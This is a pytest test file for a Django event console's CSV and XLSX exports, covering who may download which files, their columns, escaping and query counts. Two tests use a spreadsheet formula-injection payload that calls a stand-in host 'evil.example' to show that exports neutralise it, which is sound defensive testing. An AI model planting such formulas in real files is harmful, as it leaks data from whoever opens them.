"""The exports page and its files: who gets them, what they hold, how many queries."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from keruen.console.exports import EXPORTS
from keruen.events.models import MeetingTable, Slot
from keruen.imports.kinds import IMPORTERS
from keruen.meetings.models import Meeting, Schedule
from keruen.meetings.services import (
    schedule_draft_get,
    schedule_entry_place,
    schedule_publish,
)
from keruen.people.arrivals import participant_check_in
from keruen.people.badge_codes import badge_code_display
from tests.console.conftest import grid
from tests.factories import (
    AgreementFactory,
    BoothFactory,
    DelegationFactory,
    MeetingFactory,
    MeetingTableFactory,
    OpportunityFactory,
    OrganisationFactory,
    ParticipantFactory,
    SlotFactory,
)

FORMATS = ("csv", "xlsx")
IMPORT_KINDS = {
    "delegates": "participants",
    "organisations": "organisations",
    "opportunities": "opportunities",
}


def _url(event) -> str:
    return reverse("console-exports", args=[event.slug])


def _download(client, event, export: str, file_format: str = "csv", **params):
    return client.get(_url(event), {"download": export, "format": file_format, **params})


def _rows(response) -> list[list[str]]:
    """The CSV file's rows (header first); the file starts with a UTF-8 byte-order mark."""
    assert response.content.startswith(b"\xef\xbb\xbf")
    text = response.content[3:].decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


def _records(response) -> list[dict[str, str]]:
    header, *rows = _rows(response)
    return [dict(zip(header, row, strict=True)) for row in rows]


def _sheet(response):
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert len(workbook.worksheets) == 1
    return workbook.worksheets[0]


# --- who may ----------------------------------------------------------------------------------


@pytest.mark.parametrize("params", [{}, {"download": "delegates", "format": "csv"}])
def test_anonymous_visitors_go_to_the_login_page(client, event, params) -> None:
    response = client.get(_url(event), params)
    assert response.status_code == 302
    assert reverse("login") in response["Location"]


@pytest.mark.parametrize("export", list(EXPORTS))
def test_delegates_get_no_file(delegate_client, event, export) -> None:
    assert delegate_client.get(_url(event)).status_code == 403
    response = _download(delegate_client, event, export)
    assert response.status_code == 403
    assert "Content-Disposition" not in response


@pytest.mark.parametrize("export", list(EXPORTS))
def test_organisers_of_another_event_get_no_file(foreign_organiser_client, event, export) -> None:
    ParticipantFactory(event=event, contact_email="secret@example.org")
    response = _download(foreign_organiser_client, event, export)
    assert response.status_code == 403
    assert b"secret@example.org" not in response.content


def test_an_unknown_event_is_not_found(organiser_client) -> None:
    response = organiser_client.get(reverse("console-exports", args=["no-such-expo"]))
    assert response.status_code == 404


@pytest.mark.parametrize(
    "params",
    [
        {"download": "passwords", "format": "csv"},
        {"download": "delegates", "format": "pdf"},
        {"download": "delegates"},
    ],
)
def test_unknown_exports_and_formats_are_not_found(organiser_client, event, params) -> None:
    assert organiser_client.get(_url(event), params).status_code == 404


def test_a_release_of_another_event_is_not_found(organiser_client, event, other_event) -> None:
    release = _release(other_event)
    response = _download(organiser_client, event, "meetings", schedule=release.pk)
    assert response.status_code == 404
    response = _download(organiser_client, event, "meetings", schedule="latest")
    assert response.status_code == 404


# --- the page ---------------------------------------------------------------------------------


def test_the_page_explains_every_file(organiser_client, event) -> None:
    ParticipantFactory(event=event)
    response = organiser_client.get(_url(event))
    assert response.status_code == 200
    page = response.content.decode()
    assert 'class="consolenav"' in page
    assert f'href="{_url(event)}" aria-current="page"' in page
    for export in EXPORTS.values():
        assert f'value="{export.slug}"' in page
        for name in export.header:
            assert f"<code>{name}</code>" in page, name
    assert "Download CSV" in page
    assert "Download XLSX" in page
    assert "<code>no_show</code>" in page  # codes are listed with their meaning
    assert response["Cache-Control"].startswith("max-age=0")


def test_the_other_console_pages_link_to_the_exports(organiser_client, event) -> None:
    page = organiser_client.get(reverse("console-home", args=[event.slug])).content.decode()
    assert f'href="{_url(event)}"' in page


def test_every_column_is_explained_once() -> None:
    for export in EXPORTS.values():
        documented = [name for column in export.columns for name in column.names]
        assert sorted(documented) == sorted(export.header), export.slug
        assert len(set(documented)) == len(documented), export.slug


@pytest.mark.parametrize(("export", "kind"), IMPORT_KINDS.items())
def test_import_layouts_are_the_importers_columns(export, kind) -> None:
    assert EXPORTS[export].header == tuple(column.name for column in IMPORTERS[kind].columns)


# --- the files ---------------------------------------------------------------------------------


@pytest.mark.parametrize("export", list(EXPORTS))
@pytest.mark.parametrize("file_format", FORMATS)
def test_every_file_downloads_with_its_header(organiser_client, event, export, file_format):
    response = _download(organiser_client, event, export, file_format)
    assert response.status_code == 200
    today = timezone.localdate(timezone=event.tz).isoformat()
    version = "-draft" if export == "meetings" else ""
    name = f"{event.slug}-{export}{version}-{today}.{file_format}"
    assert response["Content-Disposition"] == f'attachment; filename="{name}"'
    assert "no-store" in response["Cache-Control"]
    if file_format == "csv":
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert tuple(_rows(response)[0]) == EXPORTS[export].header
    else:
        sheet = _sheet(response)
        assert sheet.title == EXPORTS[export].sheet
        header = next(sheet.iter_rows(values_only=True))
        assert header == EXPORTS[export].header


def test_delegates_file_holds_contact_details_but_no_secrets(organiser_client, event, organiser):
    delegation = DelegationFactory(event=event, code="kz-gov")
    person = ParticipantFactory(
        event=event,
        given_name="Айгерим",
        title={"en": "Export director", "zh-hans": "出口总监"},
        languages=["kk", "ru"],
        phone="+7 701 555 0101",
        delegation=delegation,
        public_listing=True,
        target_countries=["CN", "UZ"],
    )
    response = _download(organiser_client, event, "delegates")
    records = {record["email"]: record for record in _records(response)}
    assert set(records) == {organiser.user.email, person.user.email}
    row = records[person.user.email]
    assert row["given_name"] == "Айгерим"
    assert (row["title_en"], row["title_zh"], row["title_ru"]) == (
        "Export director",
        "出口总监",
        "",
    )
    assert row["languages"] == "kk;ru"
    assert row["target_countries"] == "CN;UZ"
    assert row["contact_email"] == person.contact_email
    assert row["phone"] == "'+7 701 555 0101"  # marked as text for spreadsheets
    assert row["delegation_code"] == "kz-gov"
    assert (row["public_listing"], row["role"], row["status"]) == ("yes", "business", "approved")
    person.user.refresh_from_db()
    assert person.user.password.encode() not in response.content
    assert person.feed_token.encode() not in response.content


def test_organisations_keep_leading_zeros_as_text_in_the_workbook(organiser_client, event):
    OrganisationFactory(event=event, code="grain", sectors=["01", "10"], hs_codes=["0101"])
    response = _download(organiser_client, event, "organisations", "xlsx")
    sheet = _sheet(response)
    header, *rows = sheet.iter_rows()
    columns = {cell.value: index for index, cell in enumerate(header)}
    (row,) = [row for row in rows if row[columns["code"]].value == "grain"]
    assert row[columns["sectors"]].value == "01;10"
    assert row[columns["hs_codes"]].value == "0101"
    assert row[columns["is_exhibitor"]].value == "no"
    assert sheet.column_dimensions["A"].number_format == "@"  # edits stay text too


def test_a_formula_written_by_a_delegate_stays_text(organiser_client, event) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    OpportunityFactory(organisation=OrganisationFactory(event=event), title=formula)
    sheet = _sheet(_download(organiser_client, event, "opportunities", "xlsx"))
    header, row = sheet.iter_rows()
    cell = row[[c.value for c in header].index("title")]
    assert (cell.value, cell.data_type) == (formula, "s")


def test_csv_cells_a_spreadsheet_would_run_as_formulas_begin_with_an_apostrophe(
    organiser_client, event
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    organisation = OrganisationFactory(event=event, code="f1")
    OpportunityFactory(organisation=organisation, title=formula)
    ParticipantFactory(event=event, organisation=organisation, phone="+7 701 555 0101")
    opportunities = _records(_download(organiser_client, event, "opportunities"))
    assert [r["title"] for r in opportunities] == ["'" + formula]
    delegates = _records(_download(organiser_client, event, "delegates"))
    assert [r["phone"] for r in delegates if r["organisation_code"] == "f1"] == ["'+7 701 555 0101"]


def test_control_characters_are_left_out(organiser_client, event) -> None:
    # Control characters a spreadsheet cannot hold (not NUL: PostgreSQL refuses to store it
    # at all).
    OrganisationFactory(event=event, code="ctl", city="Ast\x0bana\x1f")
    for file_format in FORMATS:
        response = _download(organiser_client, event, "organisations", file_format)
        assert response.status_code == 200
    records = _records(_download(organiser_client, event, "organisations"))
    assert [r["city"] for r in records if r["code"] == "ctl"] == ["Astana"]


# --- meetings ---------------------------------------------------------------------------------


def _release(event, *, version: str = ""):
    """A release placing one meeting; returns it."""
    grid(event, tables=1)
    meeting = MeetingFactory(event=event)
    slot = Slot.objects.filter(event=event).order_by("number").first()
    table = MeetingTable.objects.filter(event=event).first()
    schedule_entry_place(
        schedule=schedule_draft_get(event=event), meeting=meeting, slot=slot, table=table
    )
    return schedule_publish(event=event, by=None, version=version)


@pytest.fixture
def scheduled(event):
    """Three meetings: two placed in release v1, moved about in the draft; one never placed."""
    grid(event, tables=2)
    slots = list(Slot.objects.filter(event=event).order_by("number"))
    tables = list(MeetingTable.objects.filter(event=event).order_by("number"))
    booth = BoothFactory(event=event, code="C-104")
    chinese = OrganisationFactory(
        event=event, code="silu", name={"en": "Silu", "ru": "Силу"}, country="CN"
    )
    booth.exhibitor = chinese
    booth.save()
    wang = ParticipantFactory(
        event=event, organisation=chinese, given_name="磊", family_name="王", booth=booth
    )
    first = MeetingFactory(event=event, participant_a=wang, language="ru")
    second = MeetingFactory(event=event)
    never = MeetingFactory(event=event, status=Meeting.Status.CANCELLED)
    draft = schedule_draft_get(event=event)
    schedule_entry_place(schedule=draft, meeting=second, slot=slots[0], table=tables[1])
    schedule_entry_place(schedule=draft, meeting=first, slot=slots[1], booth=booth)
    release = schedule_publish(event=event, by=None, version="v1")
    draft.entries.all().delete()
    schedule_entry_place(schedule=draft, meeting=first, slot=slots[5], table=tables[0])
    return release, first, second, never


@pytest.mark.parametrize("choice", [{}, "release"])
def test_meetings_in_the_latest_release_by_default(organiser_client, event, scheduled, choice):
    release, first, second, never = scheduled
    params = {"schedule": release.pk} if choice else {}
    response = _download(organiser_client, event, "meetings", **params)
    assert "-meetings-v1-" in response["Content-Disposition"]
    records = _records(response)
    assert [int(r["meeting_id"]) for r in records] == [second.pk, first.pk, never.pk]
    at_table, at_booth, unplaced = records
    # Slot 1 is 09:00-09:30 in the event's time zone (Asia/Shanghai), on the first day.
    assert (at_table["slot"], at_table["day"], at_table["date"]) == ("1", "1", "2026-06-27")
    assert (at_table["start"], at_table["end"]) == ("09:00", "09:30")
    assert (at_table["table"], at_table["booth"]) == ("T2", "")
    assert (at_booth["start"], at_booth["table"], at_booth["booth"]) == ("09:30", "", "C-104")
    assert at_booth["delegate_a_name"] == "王磊"
    assert at_booth["delegate_a_email"] == first.participant_a.user.email
    assert at_booth["delegate_a_organisation"] == "Silu"
    assert at_booth["delegate_a_organisation_code"] == "silu"
    assert at_booth["delegate_a_country"] == "CN"
    assert at_booth["delegate_b_name"] == first.participant_b.display_name
    assert (at_booth["status"], at_booth["language"], at_booth["schedule_version"]) == (
        "accepted",
        "ru",
        "v1",
    )
    assert unplaced["status"] == "cancelled"
    assert all(unplaced[c] == "" for c in ("slot", "day", "date", "start", "end", "table"))


def test_meetings_in_the_draft_on_request(organiser_client, event, scheduled) -> None:
    _release, first, second, never = scheduled
    response = _download(organiser_client, event, "meetings", "xlsx", schedule="draft")
    assert "-meetings-draft-" in response["Content-Disposition"]
    sheet = _sheet(response)
    header, *rows = sheet.iter_rows()
    names = [cell.value for cell in header]
    placed = dict(zip(names, rows[0], strict=False))
    assert placed["meeting_id"].value == first.pk
    assert placed["schedule_version"].value == "draft"
    assert placed["slot"].value == 6  # 09:00, 09:30, 10:00, 10:30, 14:00, then 14:30
    assert placed["date"].value == dt.datetime(2026, 6, 27)  # a date cell, not text
    assert placed["date"].number_format == "yyyy-mm-dd"
    assert placed["start"].value == dt.time(14, 30)
    assert placed["start"].number_format == "hh:mm"
    assert placed["table"].value == "T1"
    assert [row[0].value for row in rows[1:]] == [second.pk, never.pk]


def test_meetings_of_an_event_without_a_schedule(organiser_client, event) -> None:
    meeting = MeetingFactory(event=event)
    (record,) = _records(_download(organiser_client, event, "meetings"))
    assert (record["meeting_id"], record["schedule_version"]) == (str(meeting.pk), "draft")
    assert not Schedule.objects.filter(event=event).exists()  # a download creates no draft


# --- agreements -------------------------------------------------------------------------------


def test_agreements_with_parties_titles_and_codes(organiser_client, event) -> None:
    a = OrganisationFactory(event=event, code="a-org", name={"en": "Alpha"})
    b = OrganisationFactory(event=event, code="b-org", name={"en": "Beta"})
    meeting = MeetingFactory(event=event)
    signed = AgreementFactory(
        event=event,
        title={"en": "MoU on grain", "zh-hans": "粮食谅解备忘录", "kk": "Астық туралы меморандум"},
        sector="agriculture",
        value=Decimal("1250000.50"),
        currency="CNY",
        meeting=meeting,
    )
    signed.parties.set([b, a])
    talking = AgreementFactory(
        event=event, status="negotiating", signed_on=None, value=None, currency=""
    )
    talking.parties.set([a, b])
    first, second = _records(_download(organiser_client, event, "agreements"))
    assert first["agreement_id"] == str(signed.pk)
    assert (first["kind"], first["status"], first["signed_on"]) == ("mou", "signed", "2026-06-29")
    assert (first["title_en"], first["title_zh"], first["title_ru"]) == (
        "MoU on grain",
        "粮食谅解备忘录",
        "",
    )
    assert (first["parties"], first["party_names"]) == ("a-org;b-org", "Alpha; Beta")
    assert (first["sector"], first["value"], first["currency"]) == (
        "agriculture",
        "1250000.50",
        "CNY",
    )
    assert first["meeting_id"] == str(meeting.pk)
    assert (second["value"], second["signed_on"], second["meeting_id"]) == ("", "", "")
    sheet = _sheet(_download(organiser_client, event, "agreements", "xlsx"))
    value = list(sheet.iter_rows())[1][EXPORTS["agreements"].header.index("value")]
    assert value.value == pytest.approx(1250000.5)  # a number in the workbook


def test_arrivals_give_the_badge_code_and_the_local_time_of_arrival(organiser_client, event):
    arrived = ParticipantFactory(event=event, given_name="Aigerim")
    waiting = ParticipantFactory(event=event, given_name="Bolat")
    # 01:05 UTC is 09:05 in Shanghai, the event's clock.
    participant_check_in(participant=arrived, at=dt.datetime(2026, 6, 26, 1, 5, 30, tzinfo=dt.UTC))
    rows = {
        row["given_name"]: row for row in _records(_download(organiser_client, event, "arrivals"))
    }
    assert rows["Aigerim"]["badge_code"] == badge_code_display(arrived.badge_code)
    assert (rows["Aigerim"]["checked_in_date"], rows["Aigerim"]["checked_in_time"]) == (
        "2026-06-26",
        "09:05",  # HH:MM, as the meetings file writes times
    )
    assert rows["Bolat"]["badge_code"] == badge_code_display(waiting.badge_code)
    assert rows["Bolat"]["checked_in_date"] == rows["Bolat"]["checked_in_time"] == ""


# --- queries ----------------------------------------------------------------------------------


def _grow(event, rows: int) -> None:
    """``rows`` more of everything, each row with all its relations, placed in a release."""
    delegation = DelegationFactory(event=event)
    draft = schedule_draft_get(event=event)
    base = Slot.objects.filter(event=event).count()
    for number in range(1, rows + 1):
        organisation = OrganisationFactory(event=event, delegation=delegation)
        person = ParticipantFactory(event=event, organisation=organisation, delegation=delegation)
        OpportunityFactory(organisation=organisation, author=person)
        meeting = MeetingFactory(event=event, participant_a=person)
        slot = SlotFactory(event=event, number=base + number)
        table = MeetingTableFactory(event=event, number=base + number)
        schedule_entry_place(schedule=draft, meeting=meeting, slot=slot, table=table)
        agreement = AgreementFactory(event=event, meeting=meeting)
        agreement.parties.set([organisation, meeting.participant_b.organisation])
    schedule_publish(event=event, by=None)


def _queries(client, event, export: str, file_format: str) -> int:
    with CaptureQueriesContext(connection) as captured:
        response = _download(client, event, export, file_format)
    assert response.status_code == 200
    return len(captured.captured_queries)


@pytest.mark.parametrize("export", list(EXPORTS))
def test_queries_do_not_grow_with_rows(organiser_client, event, export) -> None:
    _grow(event, 2)
    few = {
        file_format: _queries(organiser_client, event, export, file_format)
        for file_format in FORMATS
    }
    _grow(event, 8)
    many = {
        file_format: _queries(organiser_client, event, export, file_format)
        for file_format in FORMATS
    }
    assert many == few
    # Session and user, the event and the organiser check, then the rows: one query (two for
    # meetings, the schedule and its places, and agreements, their parties), and the
    # download's audit entry.
    assert max(many.values()) <= 8, many


def test_the_page_queries_do_not_grow_with_rows(organiser_client, event) -> None:
    _grow(event, 2)
    with CaptureQueriesContext(connection) as few:
        organiser_client.get(_url(event))
    _grow(event, 6)
    with CaptureQueriesContext(connection) as many:
        organiser_client.get(_url(event))
    assert len(many.captured_queries) == len(few.captured_queries)


def test_an_excel_error_literal_stays_text_in_the_workbook(organiser_client, event) -> None:
    OrganisationFactory(event=event, code="na", city="#N/A")
    sheet = _sheet(_download(organiser_client, event, "organisations", "xlsx"))
    header, *rows = sheet.iter_rows()
    columns = {cell.value: index for index, cell in enumerate(header)}
    (row,) = [row for row in rows if row[columns["code"]].value == "na"]
    cell = row[columns["city"]]
    assert (cell.value, cell.data_type) == ("#N/A", "s")


def test_a_text_beginning_with_an_apostrophe_comes_back_whole_through_the_importer(
    organiser_client, event
) -> None:
    from keruen.imports.readers import read_table

    for title in ("'-5% discount", "'=x", "'plain"):
        OpportunityFactory(organisation=OrganisationFactory(event=event), title=title)
    content = _download(organiser_client, event, "opportunities").content
    table = read_table(content, filename="opportunities.csv", kind="opportunities")
    column = table.header.index("title")
    assert sorted(row.values[column] for row in table.rows) == ["'-5% discount", "'=x", "'plain"]


def test_every_download_is_on_record(organiser_client, event, organiser) -> None:
    from keruen.common.models import AuditLogEntry

    _download(organiser_client, event, "delegates", "xlsx")
    (entry,) = AuditLogEntry.objects.filter(changes__action="export")
    assert entry.changes == {
        "action": "export",
        "kind": "delegates",
        "format": "xlsx",
        "schedule": "",
    }
    assert (entry.actor, entry.event) == (organiser.user, event)
